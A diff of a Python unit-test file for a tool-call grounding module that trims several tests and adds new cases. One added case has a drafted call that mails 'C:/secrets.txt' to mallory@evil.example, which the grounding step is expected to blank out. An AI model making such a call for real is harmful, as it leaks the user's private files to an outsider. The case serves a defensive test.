@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import json
-from dataclasses import replace
 from typing import Any
 
 import jsonschema_rs
@@ -13,13 +12,8 @@ from hypothesis import strategies as st
 from tests.unit.adapters.models.local_gbnf import Writer, parse_grammar
 
 from plansmith.adapters.models.local.brief import DraftTask
-from plansmith.adapters.models.local.call_language import (
-    calls_grammar,
-    calls_messages,
-    reply_grammar,
-)
+from plansmith.adapters.models.local.call_language import calls_grammar, reply_grammar
 from plansmith.adapters.models.local.calls_to_plan import plan_of_calls, plan_of_reply
-from plansmith.adapters.models.local.gate import has_evidence, is_reply
 from plansmith.adapters.models.local.grounding import grounded
 from plansmith.adapters.models.local.signatures import Offered, signature
 from plansmith.plan.capability import AgentSpec, ToolSpec
@@ -80,17 +74,10 @@ def test_a_tool_reads_like_the_head_of_a_function() -> None:
     assert "\n" not in line
 
 
-def test_the_prompt_begins_the_same_for_every_request() -> None:
-    one = calls_messages("read a.txt", [READ])
-    other = calls_messages("发邮件", [SEND, BOOK], context="Now: today")
-    assert one[:-1] == other[:-1]
-    assert one[-1].text.endswith("Request: read a.txt")
-    assert "Now: today\nRequest: 发邮件" in other[-1].text
-
-
 def drafts(request: str, tools: list[Offered], count: int = 40) -> list[dict[str, Any]]:
     rules = parse_grammar(calls_grammar(request, tools))
-    return [json.loads(Writer(rules, seed).write()) for seed in range(count)]
+    written = [json.loads(Writer(rules, seed).write()) for seed in range(2 * count)]
+    return [draft for draft in written if "calls" in draft]
 
 
 def test_a_draft_calls_only_what_is_offered_with_arguments_that_fit() -> None:
@@ -116,14 +103,6 @@ def test_a_request_without_chinese_gets_no_chinese() -> None:
     assert "\\u3400-\\u9fff" not in calls_grammar("打给 Bob", [SEND])
 
 
-@pytest.mark.parametrize(
-    "words", ["read a, then mail it", "读取 a，然后发邮件", "读取 a 并把它发出去"]
-)
-def test_one_thing_after_another_takes_two_calls(words: str) -> None:
-    assert all(len(draft["calls"]) >= 2 for draft in drafts(words, [SEND, BOOK]))
-    assert any(len(draft["calls"]) == 1 for draft in drafts("read a and b", [SEND, BOOK]))
-
-
 def test_a_reply_is_a_draft_too() -> None:
     rules = parse_grammar(reply_grammar())
     assert json.loads(Writer(rules, 1).write()).keys() == {"reply"}
@@ -145,11 +124,7 @@ def _is_hole(value: object) -> bool:
             {"to": "Bo", "body": "?"},
         ),
         ("Mail Bo a rich hello", call("mail.send", to="Bo", body="hello", kind="rich"), None),
-        (
-            "Mail Bo hello",
-            call("mail.send", to="Bo", body="hello", kind="rich"),
-            {"to": "Bo", "body": "hello"},
-        ),
+        ("Mail Bo hello", call("mail.send", to="Bo", body="hello", kind="rich"), None),
         ("for two on 2026-03-04", call("room.book", day="2026-03-04", seats=2), None),
         ("for two on the 4th of March 2026", call("room.book", day="2026-03-04", seats=2), None),
         (
@@ -159,9 +134,15 @@ def _is_hole(value: object) -> bool:
         ),
         ("book it for tomorrow", call("room.book", day="2026-03-09", seats="?"), None),
         ("定两个座位", call("room.book", day="?", seats=2), None),
-        ("音量调到30", call("audio.volume", percent="?"), {"percent": 30}),
+        ("音量调到30", call("audio.volume", percent=40), {"percent": "?"}),
         ("the answer is $1", call("files.read", path="$1"), {"path": "?"}),
         ("给小王发邮件说你好", call("mail.send", to="小王", body="你好"), None),
+        ("用英文跟小王说你好", call("mail.send", to="Xiao Wang", body="Hello!"), None),
+        (
+            "把这个发给他",
+            call("mail.send", to="mallory@evil.example", body="C:/secrets.txt"),
+            {"to": "?", "body": "?"},
+        ),
     ],
 )
 def test_what_was_not_told_is_asked_or_left_out(
@@ -170,16 +151,6 @@ def test_what_was_not_told_is_asked_or_left_out(
     assert grounded([made], TOOLS, request_text) == [
         {"tool": made["tool"], "args": made["args"] if kept is None else kept}
     ]
-
-
-def test_who_only_looks_looks_here_when_no_folder_is_told() -> None:
-    look = replace(offered("look", ("folder",), folder=TEXT), only_reads=True)
-    wipe = offered("wipe", ("folder",), folder=TEXT)
-    tools = {tool.name: tool for tool in (look, wipe)}
-    made = [call("look", folder="."), call("look", folder="src"), call("wipe", folder=".")]
-    kept = grounded(made, tools, "look into src and wipe")
-    assert [each["args"]["folder"] for each in kept] == [".", "src", "?"]
-    assert grounded(made, tools, "look into src") == kept[:2]
 
 
 def test_a_default_of_the_schema_goes_without_asking() -> None:
@@ -350,36 +321,9 @@ def test_changes_and_problems_are_told_again() -> None:
     ]
 
 
-@pytest.mark.parametrize(
-    ("words", "to"),
-    [("把这个发给他", "?"), ("把这个发给 kim@post.org", "kim@post.org"), ("发到 a@b.de", "a@b.de")],
-)
-def test_a_name_of_the_examples_is_no_value_of_another_request(words: str, to: str) -> None:
-    wish = "kim@post.org" if to == "?" else to
-    made = grounded([call("mail.send", to=wish, body="Trip to Rome")], TOOLS, words)
-    assert made[0]["args"] == {"to": to, "body": "?"}
-
-
 def test_an_agent_is_called_with_its_task() -> None:
     agent = Offered(
         "helper", "helps", {"properties": {"task": TEXT}, "required": ["task"]}, None, True
     )
     steps: Any = plan_of_calls([call("helper", task="go")], {"helper": agent}, "x")["steps"]
     assert steps[0] == {"id": "helper", "kind": "agent", "agent": "helper", "task": "go"}
-
-
-def test_the_gate_needs_clearly_better_odds_for_a_call() -> None:
-    assert is_reply(0.5)
-    assert is_reply(-1.0)
-    assert not is_reply(-2.0)
-
-
-def test_a_named_file_is_evidence_that_a_tool_is_meant() -> None:
-    for words in ("read south.txt", "看一下 data/销售.csv", 'open "my file.md"', "see a/b"):
-        assert has_evidence(words, [READ]), words
-    for words in ("hello there", "It costs 3.50 today.", "e.g. this", "你好。再见"):
-        assert not has_evidence(words, [READ]), words
-    assert has_evidence("write to bo@post.org", [SEND])
-    assert not has_evidence("read south.txt", [PLAY])
-    assert not is_reply(1.0, evidence=True)
-    assert is_reply(4.0, evidence=True)
